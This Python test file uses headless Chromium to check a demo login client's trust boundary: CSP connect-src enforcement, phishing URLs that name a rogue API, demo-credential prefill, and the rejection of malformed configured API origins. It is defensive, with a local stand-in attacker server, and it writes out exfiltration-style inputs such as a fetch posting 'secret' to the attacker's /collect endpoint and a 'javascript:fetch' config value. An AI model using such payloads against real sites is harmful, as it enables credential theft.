"""The demo client's trust boundary, in headless Chromium: where its calls go, what it prefills,
and the Content-Security-Policy the browser enforces on it.

Three setups serve the page: the dev server itself (same origin), a plain file server on another
origin with the files written by deploy/render_client.py (the cross-origin development setup),
and the deploy's nginx with TLS in front of a prod process (same origin). An attacker's HTTP
server on loopback records every connection it is offered.
"""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.conftest import test_secret
from tests.services import ROOT, AppProcess, TestPKI, free_port, prod_behind_nginx
from tests.test_browser_e2e import StaticServer, chromium, open_client

sys.path.insert(0, str(ROOT / "deploy"))
from render_client import render

pytestmark = pytest.mark.slow  # Chromium, nginx and server processes

__all__ = ["chromium"]  # the browser fixture of the other browser tests, used here too


MAX_NAME, MAX_BALANCE = "Max Miller", "Balance: 53,762"
CSP_META = 'meta[http-equiv="Content-Security-Policy"]'


class AttackerServer:
    """A permissive HTTP server that would gladly take a login: it records every connection.

    It answers any method with CORS for any origin, credentials included, and a login reply,
    so a page that did send it the form would appear to work.
    """

    def __init__(self) -> None:
        self.connections: list[tuple[str, int]] = []
        self.requests: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace") if length else ""
                server.requests.append(f"{self.command} {self.path} {body}")
                reply = json.dumps({"loggedIn": False, "user": {"email": "max@gmail.com", "name": MAX_NAME}})
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin") or "*")
                self.send_header("Access-Control-Allow-Credentials", "true")
                self.send_header("Access-Control-Allow-Methods", "GET, POST, OPTIONS")
                self.send_header("Access-Control-Allow-Headers", "content-type, x-xsrf-token")
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(reply)))
                self.end_headers()
                self.wfile.write(reply.encode())

            do_GET = do_POST = do_OPTIONS = do_PUT = answer

            def log_message(self, format: str, *args: Any) -> None:
                pass

        class Recording(ThreadingHTTPServer):
            def verify_request(self, request: Any, client_address: Any) -> bool:
                server.connections.append(client_address)
                return True

        self.httpd = Recording(("127.0.0.1", free_port()), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def attacker() -> Iterator[AttackerServer]:
    server = AttackerServer()
    yield server
    server.stop()


@dataclass
class ClientSetup:
    page_url: str
    api_origin: str
    # The connect-src the page must carry: exactly the origin app.js calls.
    connect_src: str
    prefilled: bool


def dev_setup() -> Iterator[ClientSetup]:
    with AppProcess({"SESSION_SECRETS": test_secret()}, args=("--env=dev",)) as app:
        yield ClientSetup(app.base_url + "/", app.base_url, "'self'", prefilled=True)


def cross_origin_setup(root: Path) -> Iterator[ClientSetup]:
    page_port = free_port()
    page_origin = f"http://localhost:{page_port}"
    env = {"SESSION_SECRETS": test_secret(), "CORS_ORIGINS": page_origin}
    with AppProcess(env, args=("--env=dev",)) as app:
        api = f"http://localhost:{app.port}"
        render(api=api, out=root / "client")
        server = StaticServer(page_port, root / "client")
        try:
            yield ClientSetup(page_origin + "/", api, api, prefilled=False)
        finally:
            server.stop()


def prod_setup(root: Path) -> Iterator[ClientSetup]:
    # The demo users themselves: even then the prod page prefills nothing.
    with prod_behind_nginx(root, TestPKI(root), ROOT / "static") as origin:
        yield ClientSetup(origin + "/", origin, "'self'", prefilled=False)


@pytest.fixture(
    scope="module",
    params=["dev", "cross-origin", pytest.param("prod", marks=pytest.mark.memcached)],
)
def client_setup(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ClientSetup]:
    root = tmp_path_factory.mktemp(request.param)
    if request.param == "dev":
        yield from dev_setup()
    elif request.param == "cross-origin":
        yield from cross_origin_setup(root)
    else:
        yield from prod_setup(root)


@pytest.fixture
def context(chromium: Browser) -> Iterator[BrowserContext]:
    # The prod setup's certificate comes from the test's own CA.
    ctx = chromium.new_context(ignore_https_errors=True)
    yield ctx
    ctx.close()


def page_policy(page: Page) -> dict[str, list[str]]:
    """The page's Content-Security-Policy meta tag, by directive."""
    assert page.locator(CSP_META).count() == 1
    policy = page.locator(CSP_META).get_attribute("content") or ""
    return {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}


def test_an_api_named_in_the_page_url_receives_nothing(context, client_setup: ClientSetup, attacker: AttackerServer):
    bait = attacker.origin
    page = context.new_page()
    # A phishing link, from the attacker's page, naming the attacker's API every way a URL can.
    page.goto(f"{client_setup.page_url}?api={bait}&apiBase={bait}&api_base={bait}#api={bait}", referer=bait + "/phish")
    page.wait_for_selector("body[data-ready=true]")
    page.evaluate("(bait) => window.postMessage({api: bait, apiBase: bait}, '*')", bait)
    page.fill("#email", "max@gmail.com")
    page.fill("#password", "1234")
    page.click("#login-button")
    # The login's answer is in (the attacker's server would answer it too): nothing went there.
    expect(page.locator("#welcome")).to_have_text(f"Welcome, {MAX_NAME}!")
    assert attacker.requests == []
    assert attacker.connections == []
    expect(page.locator("#api-base")).to_have_text(client_setup.api_origin)
    # The genuine server logged the user in: its balance, and still logged in after a reload.
    page.click("#balance-button")
    expect(page.locator("#balance")).to_have_text(MAX_BALANCE)
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    expect(page.locator("#logged-in")).to_be_visible()
    assert attacker.connections == []


def test_connect_src_names_exactly_the_api_origin(context, client_setup: ClientSetup, attacker: AttackerServer):
    page = context.new_page()
    response = page.goto(client_setup.page_url)
    assert response is not None and response.ok
    page.wait_for_selector("body[data-ready=true]")
    # The meta tag is the page's only policy: no server adds a header that would combine with it.
    assert "content-security-policy" not in response.all_headers()
    policy = page_policy(page)
    assert policy["connect-src"] == [client_setup.connect_src]
    assert policy["default-src"] == ["'none'"]
    assert policy["form-action"] == ["'none'"]
    # Chromium enforces it: a fetch elsewhere is refused, with a violation event, before any
    # connection is made. (The timer only keeps a missing event from hanging the test.)
    outcome = page.evaluate(
        """async (target) => {
            const violation = new Promise((resolve) => {
                document.addEventListener(
                    "securitypolicyviolation",
                    (e) => resolve({directive: e.effectiveDirective, blocked: e.blockedURI}),
                    {once: true});
                setTimeout(() => resolve(null), 10000);
            });
            try {
                await fetch(target + "/collect", {method: "POST", body: "secret", mode: "no-cors"});
                return {sent: true, violation: null};
            } catch (refused) {
                return {sent: false, violation: await violation};
            }
        }""",
        attacker.origin,
    )
    assert outcome["sent"] is False
    assert outcome["violation"]["directive"] == "connect-src"
    assert outcome["violation"]["blocked"].startswith(attacker.origin)
    assert attacker.connections == []


def test_demo_credentials_are_prefilled_only_on_the_dev_servers_page(context, client_setup: ClientSetup):
    page = context.new_page()
    open_client(page, client_setup.page_url)
    expected = ("max@gmail.com", "1234") if client_setup.prefilled else ("", "")
    expect(page.locator("#email")).to_have_value(expected[0])
    expect(page.locator("#password")).to_have_value(expected[1])


@pytest.mark.parametrize(
    "configured",
    [
        "{origin}/api",
        "{origin}/",
        "javascript:fetch('{origin}')",
        "HTTP://{host}",
        "//{host}",
        "{origin}?x=1",
    ],
)
def test_a_configured_api_that_is_not_a_bare_origin_is_refused(
    context, tmp_path, attacker: AttackerServer, configured: str
):
    # A hand-edited config.js (the renderer would have refused these): the page calls nothing,
    # though its policy would let it reach the attacker.
    render(api=attacker.origin, out=tmp_path)
    value = configured.format(origin=attacker.origin, host=attacker.origin.split("//")[1])
    (tmp_path / "config.js").write_text(f"window.SESSION_DEMO_CONFIG = {json.dumps({'api': value})};\n")
    server = StaticServer(free_port(), tmp_path)
    try:
        page = context.new_page()
        open_client(page, f"http://localhost:{server.port}/")
        expect(page.locator("#error")).to_contain_text("config.js: api must be an origin")
        page.fill("#email", "max@gmail.com")
        page.fill("#password", "1234")
        page.click("#login-button")
        expect(page.locator("#error")).to_contain_text("config.js: api must be an origin")
    finally:
        server.stop()
    assert attacker.connections == []
